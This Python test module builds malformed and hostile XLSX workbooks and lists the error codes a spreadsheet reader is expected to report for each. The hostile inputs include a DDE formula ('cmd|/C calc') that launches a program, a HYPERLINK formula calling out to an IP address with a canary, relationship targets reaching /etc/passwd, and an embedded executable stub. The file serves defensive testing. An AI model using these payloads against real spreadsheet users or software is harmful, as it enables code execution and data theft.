"""Workbooks with parts, marks and values that readers disagree about."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.books import SHEET1, with_cell, with_entry, with_part, with_sheet
from tests.hostile.honest import READ, Cases, rows
from tests.rawbooks import (
    LINKS,
    MAIN,
    PACKAGE,
    XML,
    Entry,
    book,
    number,
    packed,
    parts,
    relations,
    row,
    shared,
    sheet,
    text,
    text_row,
)

MORE = (*READ, "members.member_id.required A4")
WORKBOOK, WORKBOOK_LINKS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
COMPATIBILITY = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def changed(part: str, old: str, new: str) -> Callable[[str], bytes]:
    """The honest workbook, one of whose parts has ``new`` in place of ``old``."""

    def make(canary: str) -> bytes:
        made = parts(sheet(*rows(canary)))
        assert old in made[part]
        made[part] = made[part].replace(old, new.replace("CANARY", canary), 1)
        return packed(made)

    return make


def linked(
    kind: str, target: str, body: str, *, of: str = "xl/worksheets/_rels/sheet1.xml.rels"
) -> Callable[[str], bytes]:
    """The honest workbook with one part more, and a relation that leads to it."""

    def make(canary: str) -> bytes:
        made = parts(sheet(*rows(canary)))
        made[of] = relations(("rId7", kind, "../" + target.removeprefix("xl/")))
        return packed(made | {target: body.replace("CANARY", canary)})

    return make


def moved_book(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    made["xl/other.xml"] = made.pop(WORKBOOK)
    made["_rels/.rels"] = relations(("rId1", "officeDocument", "xl/other.xml"))
    return packed(made)


def two_strings(canary: str) -> bytes:
    """Two parts of shared strings: which one holds the texts?"""
    made = parts(sheet(*rows(canary), row(4, number("0", "B4", 0, "s"))), strings=shared("<t>x</t>"))
    made["xl/strings2.xml"] = shared(f"<t>{canary}</t>")
    made[WORKBOOK_LINKS] = made[WORKBOOK_LINKS].replace(
        "</Rel", f'<Relationship Id="r8" Type="{LINKS}/sharedStrings" Target="strings2.xml"/></Rel', 1
    )
    return packed(made)


def chosen(canary: str) -> bytes:
    """The rows twice: for programs that know an extension, and for those that do not."""
    first, *others = rows(canary)
    told = (
        f'<mc:AlternateContent xmlns:mc="{COMPATIBILITY}"><mc:Choice Requires="x14">{others[0]}</mc:Choice>'
        f"<mc:Fallback>{others[1]}</mc:Fallback></mc:AlternateContent>"
    )
    return book(sheet(first, told))


def authored(canary: str) -> bytes:
    kind = f"{PACKAGE}/relationships/metadata/core-properties"
    more = f'<Relationship Id="r2" Type="{kind}" Target="docProps/core.xml"/></Rel'
    made = parts(sheet(*rows(canary)))
    made["_rels/.rels"] = made["_rels/.rels"].replace("</Rel", more, 1)
    return packed(made | {"docProps/core.xml": f"{XML}<p><creator>{canary}</creator></p>"})


BOOKS_ODD: Cases = {
    # Values.
    "a cell in small letters": (
        with_cell('<c r="b4" t="inlineStr"><is><t>x</t></is></c>'),
        ("file.outside_grid",),
    ),
    "a cell in row 0": (with_cell('<c r="A0"><v>1</v></c>'), ("file.outside_grid",)),
    "a row 0": (with_sheet(lambda made: sheet('<row r="0"/>', *made)), ("file.damaged",)),
    "a row number with a nought before it": (
        with_sheet(lambda made: sheet(made[0].replace('r="1"', 'r="01"', 1), *made[1:])),
        READ,
    ),
    "a cell with fixed marks": (with_cell('<c r="$B$4"><v>1</v></c>'), ("file.outside_grid",)),
    "a style that is not there": (with_cell(number("1", "B4", 999)), MORE),
    "a kind of cell that nobody knows": (with_cell('<c r="B4" t="q"><v>CANARY</v></c>'), ("file.damaged",)),
    "a date as a date": (with_cell('<c r="C4" t="d"><v>2020-01-01</v></c>'), MORE),
    "a truth value of 2": (with_cell(number("2", "B4", 0, "b")), ("file.damaged",)),
    "not a number": (with_cell(number("NaN", "D4")), ("file.long_number",)),
    "an endless number": (with_cell(number("1e999", "D4")), ("file.long_number",)),
    "a number of 5,000 figures": (with_cell(number("9" * 5_000, "D4")), ("file.long_number",)),
    "a number in other figures": (with_cell(number("\u0661\u0662", "D4")), ("file.damaged",)),
    "a date before there were any": (with_cell(number("-5", "C4", 1)), (*MORE, "members.joined.type C4")),
    "a date after there are any": (with_cell(number("2958466", "C4", 1)), (*MORE, "members.joined.type C4")),
    "two values in one cell": (with_cell('<c r="B4"><v>1</v><v>2</v></c>'), ("file.damaged",)),
    "a value and a text in one cell": (
        with_cell('<c r="B4" t="inlineStr"><v>1</v><is><t>CANARY</t></is></c>'),
        MORE,
    ),
    "a cell in a cell": (with_cell('<c r="B4"><c r="C4"><v>1</v></c><v>2</v></c>'), ("file.damaged",)),
    "text in pieces of CDATA": (
        with_cell('<c r="B4" t="str"><v><![CDATA[CAN]]>ARY<!-- x --><?x y?></v></c>'),
        MORE,
    ),
    "characters by their numbers": (
        with_cell('<c r="B4" t="str"><v>&#x1F600;&#8238;CANARY</v></c>'),
        (*MORE, "members.full_name.characters B4"),
    ),
    "a character that cannot be, by its number": (
        with_cell('<c r="B4" t="str"><v>&#0;</v></c>'),
        ("file.damaged",),
    ),
    "a cell of 32,768 characters": (with_cell(text("x" * 32_768, "B4")), ("file.cell_too_long",)),
    "a formula over many cells": (with_cell('<c r="B4"><f t="array" ref="B4:D9">1</f><v>1</v></c>'), MORE),
    "a formula that calls a program": (
        with_cell("<c r='B4' t='str'><f>cmd|'/C calc'!A0</f><v>CANARY</v></c>"),
        MORE,
    ),
    "text that is a formula": (with_cell(text('=HYPERLINK("http://203.0.113.1/?CANARY")', "B4")), MORE),
    # Structure.
    "the rows twice, for other programs": (chosen, READ),
    "two lots of rows": (
        with_sheet(
            lambda made: sheet(*made).replace(
                "</worksheet>", f"<sheetData>{text_row(9, 'x')}</sheetData></worksheet>"
            )
        ),
        ("file.damaged",),
    ),
    "rows in rows": (
        with_sheet(lambda made: sheet(made[0], made[1].replace("</row>", made[2] + "</row>"))),
        READ,
    ),
    "a sheet of another kind of XML": (
        with_part(SHEET1, f"{XML}<html><body>CANARY</body></html>"),
        ("members.header_missing",),
    ),
    "a sheet in another language of names": (
        with_part(SHEET1, sheet(*rows("CANARY")).replace(MAIN, "urn:x")),
        READ,
    ),
    "an element with 50,000 attributes": (
        with_part(SHEET1, sheet("<row " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>")),
        ("members.header_missing",),
    ),
    "a part cut off in a letter": (
        lambda canary: packed(
            {k: v for k, v in parts(sheet()).items() if k != SHEET1},
            Entry(SHEET1, sheet(text_row(1, canary, "é")).encode()[:-90]),
        ),
        ("file.damaged",),
    ),
    "a part that says another encoding": (
        with_part(SHEET1, sheet(*rows("CANARY"), top='<?xml version="1.0" encoding="ISO-8859-1"?>')),
        ("file.encoding",),
    ),
    "XML of version 1.1": (
        with_part(SHEET1, sheet(*rows("CANARY"), top='<?xml version="1.1"?>')),
        READ,
    ),
    "something behind the end of a part": (
        with_part(SHEET1, sheet(*rows("CANARY")) + "<x/>"),
        ("file.damaged",),
    ),
    "an empty part": (with_part(SHEET1, ""), ("file.damaged",)),
    "a sheet under another's name": (changed(WORKBOOK, 'name="members"', 'name="CANARY"'), READ),
    "a sheet without a name": (changed(WORKBOOK, 'name="members"', 'name=""'), READ),
    "a sheet with a name of 30,000 letters": (
        changed(WORKBOOK, 'name="members"', f'name="{"x" * 30_000}"'),
        READ,
    ),
    "a sheet whose name climbs out": (changed(WORKBOOK, 'name="members"', 'name="../../CANARY"'), READ),
    "a target that climbs out": (
        changed(WORKBOOK_LINKS, "worksheets/sheet1.xml", "../../../../etc/passwd"),
        ("file.damaged",),
    ),
    "a target on the network": (
        changed(WORKBOOK_LINKS, "worksheets/sheet1.xml", "http://203.0.113.1/sheet1.xml"),
        ("file.damaged",),
    ),
    "a target outside": (
        changed(
            WORKBOOK_LINKS,
            'Target="worksheets/sheet1.xml"',
            'TargetMode="External" Target="file:///etc/passwd"',
        ),
        ("file.damaged",),
    ),
    "a relation twice": (
        changed(
            WORKBOOK_LINKS,
            "<Relationship ",
            f'<Relationship Id="rId1" Type="{LINKS}/worksheet" Target="worksheets/x.xml"/><Relationship ',
        ),
        ("file.damaged",),
    ),
    "a workbook in another place": (moved_book, ("file.damaged",)),
    "two parts of shared strings": (two_strings, ("file.damaged",)),
    "only a chart": (changed(WORKBOOK_LINKS, '/worksheet"', '/chartsheet"'), ("file.no_sheets",)),
    "a dialogue as a sheet": (changed(WORKBOOK_LINKS, '/worksheet"', '/dialogsheet"'), ("file.damaged",)),
    "300 sheets": (
        lambda canary: book(
            *[sheet(*rows(canary))] * 300, names=[f"s{n}" for n in range(300)], states=["visible"] * 300
        ),
        ("file.too_large",),
    ),
    # What it carries beside its cells.
    "a comment": (
        linked("comments", "xl/comments1.xml", "<comments>CANARY</comments>"),
        ("file.part_extra", *READ),
    ),
    "an author": (authored, ("file.properties", *READ)),
    "data of another workbook": (
        with_entry(Entry("xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
        ("file.part_extra", *READ),
    ),
    "a program in a workbook": (
        with_entry(Entry("xl/embeddings/oleObject1.bin", b"MZ\x90")),
        ("file.part_extra", *READ),
    ),
    "a picture of a huge size": (
        with_entry(
            Entry("xl/media/image1.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff")
        ),
        ("file.part_extra", *READ),
    ),
    "a text box": (
        linked(
            "drawing",
            "xl/drawings/drawing1.xml",
            "<d:wsDr xmlns:d='d' xmlns:a='a'><a:t>CANARY</a:t></d:wsDr>",
        ),
        ("file.part_extra", *READ),
    ),
    "a name at the head of each page": (
        with_sheet(
            lambda made: sheet(
                *made, after="<headerFooter><oddHeader>&amp;LCANARY</oddHeader></headerFooter>"
            )
        ),
        ("file.part_extra", *READ),
    ),
    "a hidden row and a hidden column": (
        with_sheet(
            lambda made: sheet(
                made[0],
                made[1],
                made[2].replace("<row ", '<row hidden="1" '),
                before='<cols><col min="2" max="2" hidden="1"/></cols>',
            )
        ),
        ("members.columns_hidden", "members.rows_hidden", *READ),
    ),
    "a million hidden columns": (
        with_sheet(
            lambda made: sheet(*made, before='<cols><col min="1" max="999999999" hidden="1"/></cols>')
        ),
        ("members.columns_hidden", *READ),
    ),
}
